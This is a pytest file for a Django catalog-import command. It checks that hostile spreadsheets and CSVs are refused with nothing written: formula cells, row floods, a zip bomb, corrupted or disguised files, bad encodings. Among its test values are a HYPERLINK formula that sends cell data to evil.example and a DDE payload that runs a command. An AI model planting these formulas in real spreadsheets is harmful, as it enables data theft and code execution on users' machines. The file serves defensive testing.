"""Hostile catalog files: formulas, a flood of rows, zip bombs and broken workbooks, CSV that
is not text. Each is refused by `lianban catalog import` with a message saying what is wrong,
quickly, and nothing is written."""

import io
import time
import zipfile

import openpyxl
import pytest
from django.core.management import CommandError, call_command

from catalog import workbook
from tests.catalog.conftest import (
    DEPARTMENTS,
    ITEM_HEADER,
    ITEMS,
    PROJECT_TYPES,
    headers,
    write_xlsx,
)

from .conftest import TRIED, snapshot

pytestmark = pytest.mark.django_db


def import_refused(path, message: str, seconds: float = 5.0) -> str:
    """Runs the import; it must fail with `message` within `seconds` and write nothing."""
    TRIED["lianban catalog import"] += 1
    before = snapshot()
    err = io.StringIO()
    started = time.perf_counter()
    with pytest.raises(CommandError) as caught:
        call_command("catalog", "import", str(path), stdout=io.StringIO(), stderr=err)
    elapsed = time.perf_counter() - started
    assert "未作任何修改" in str(caught.value)
    assert message in err.getvalue(), err.getvalue()
    assert elapsed < seconds
    assert snapshot() == before
    return err.getvalue()


def test_the_good_workbook_imports(tmp_path):
    """The file the others spoil: without the spoiling, it imports."""
    call_command("catalog", "import", str(write_xlsx(tmp_path / "ok.xlsx")), stdout=io.StringIO())


# ---- formulas ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "formula",
    ["=1+1", '=HYPERLINK("http://evil.example/"&A1,"点击")', "=cmd|' /C calc'!A0", "=SUM(A1:A9)"],
)
def test_a_formula_cell_is_refused(tmp_path, formula):
    rows = [list(r) for r in ITEMS]
    rows[1][ITEM_HEADER.index("设定依据")] = formula
    import_refused(write_xlsx(tmp_path / "f.xlsx", items=rows), "单元格是公式")


@pytest.mark.parametrize("cell", ["+1+1", "-2+3", "@SUM(1)"])
def test_other_formula_starts_are_text_and_export_escaped(tmp_path, cell):
    """+ - @ are not formulas to openpyxl; they are kept as text, and an export writes them
    with a leading apostrophe so a spreadsheet does not run them."""
    TRIED["lianban catalog export"] += 1
    rows = [list(r) for r in ITEMS]
    rows[1][ITEM_HEADER.index("设定依据")] = cell
    call_command(
        "catalog", "import", str(write_xlsx(tmp_path / "in.xlsx", items=rows)), stdout=io.StringIO()
    )
    out = tmp_path / "out.xlsx"
    call_command("catalog", "export", str(out), stdout=io.StringIO())
    values = [c.value for row in openpyxl.load_workbook(out)["事项"].iter_rows() for c in row]
    assert f"'{cell}" in values and cell not in values
    assert not any(isinstance(v, str) and v.startswith(workbook.FORMULA_STARTS) for v in values)


# ---- size ---------------------------------------------------------------------------------


def test_a_workbook_of_100000_rows_is_refused_quickly(tmp_path):
    path = tmp_path / "flood.xlsx"
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("部门")
    ws.append(headers("departments"))
    for i in range(100_000):
        ws.append([f"D{i}", "部门", "139999"])
    wb.save(path)
    import_refused(path, "超过 5000 行", seconds=3.0)


def test_a_csv_of_100000_rows_is_refused_quickly(tmp_path):
    folder = tmp_path / "csv"
    workbook.write(folder, {})
    lines = ["部门编码,部门名称,行政区划代码"] + [f"D{i},部门,139999" for i in range(100_000)]
    (folder / "部门.csv").write_text("\n".join(lines), encoding="utf-8")
    import_refused(folder, "超过 5000 行", seconds=3.0)


def zip_bytes(entries: dict) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in entries.items():
            package.writestr(name, data)
    return buffer.getvalue()


def test_an_xlsx_that_unpacks_huge_is_refused_without_unpacking_it(tmp_path):
    good = zipfile.ZipFile(write_xlsx(tmp_path / "ok.xlsx"))
    entries = {i.filename: good.read(i.filename) for i in good.infolist()}
    entries["xl/worksheets/sheet1.xml"] += b" " * (80 * 1024 * 1024)  # 80 MB of spaces
    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(zip_bytes(entries))
    assert bomb.stat().st_size < 1_000_000
    import_refused(bomb, "解压后超过 50 MB", seconds=1.0)


# ---- broken files -------------------------------------------------------------------------


def test_a_file_that_is_not_a_zip_is_refused(tmp_path):
    path = tmp_path / "fake.xlsx"
    path.write_bytes(b"MZ\x90\x00 this is a program, not a workbook")
    import_refused(path, "文件已损坏或不是 .xlsx 工作簿")


@pytest.mark.parametrize("keep", [0.3, 0.6, 0.9])
def test_a_truncated_workbook_is_refused(tmp_path, keep):
    data = write_xlsx(tmp_path / "ok.xlsx").read_bytes()
    path = tmp_path / "cut.xlsx"
    path.write_bytes(data[: int(len(data) * keep)])
    import_refused(path, "文件已损坏或不是 .xlsx 工作簿")


def test_a_zip_with_broken_sheet_xml_is_refused(tmp_path):
    good = zipfile.ZipFile(write_xlsx(tmp_path / "ok.xlsx"))
    entries = {i.filename: good.read(i.filename) for i in good.infolist()}
    entries["xl/worksheets/sheet1.xml"] = b"<worksheet><sheetData><row><c"
    path = tmp_path / "xml.xlsx"
    path.write_bytes(zip_bytes(entries))
    import_refused(path, "文件已损坏或不是 .xlsx 工作簿")


def test_a_zip_that_is_no_workbook_is_refused(tmp_path):
    path = tmp_path / "doc.xlsx"
    path.write_bytes(zip_bytes({"word/document.xml": b"<w/>"}))
    import_refused(path, "文件已损坏或不是 .xlsx 工作簿")


def csv_folder(tmp_path, departments: bytes):
    folder = tmp_path / "csv"
    workbook.write(
        folder,
        {
            "items": [
                dict(zip([c.key for c in workbook.SPECS["items"].columns], r, strict=True))
                for r in ITEMS
            ],
            "project_types": [
                dict(
                    zip(
                        [c.key for c in workbook.SPECS["project_types"].columns][:6], r, strict=True
                    )
                )
                for r in PROJECT_TYPES
            ],
        },
    )
    (folder / "部门.csv").write_bytes(departments)
    return folder


def good_departments(encoding="utf-8") -> bytes:
    lines = [",".join(headers("departments"))] + [",".join(r) for r in DEPARTMENTS]
    return "\n".join(lines).encode(encoding)


def test_the_good_csv_folder_imports_in_utf8_and_gb18030(tmp_path):
    for encoding in ("utf-8", "gb18030"):
        folder = csv_folder(tmp_path / encoding, good_departments(encoding))
        call_command("catalog", "import", str(folder), stdout=io.StringIO())


def test_a_csv_with_nul_bytes_is_refused(tmp_path):
    folder = csv_folder(tmp_path, good_departments().replace(b"139999", b"13\x009999", 1))
    import_refused(folder, "空字节（NUL）")


def test_a_csv_saved_as_utf16_is_refused(tmp_path):
    folder = csv_folder(tmp_path, good_departments("utf-16"))
    import_refused(folder, "空字节（NUL）")


def test_a_csv_in_no_known_encoding_is_refused(tmp_path):
    folder = csv_folder(tmp_path, good_departments() + b"\nXX,\xff\xfe\xff,139999")
    import_refused(folder, "无法识别文件的编码")


@pytest.mark.parametrize("char", ["\x1b", "\x07", "\x7f", "\x0b"])
def test_a_cell_with_a_control_character_is_refused(tmp_path, char):
    """openpyxl cannot even write these into a workbook; a CSV carries them."""
    departments = good_departments().replace("发展改革局".encode(), f"发展{char}改革局".encode())
    import_refused(csv_folder(tmp_path, departments), "不可见的控制字符")
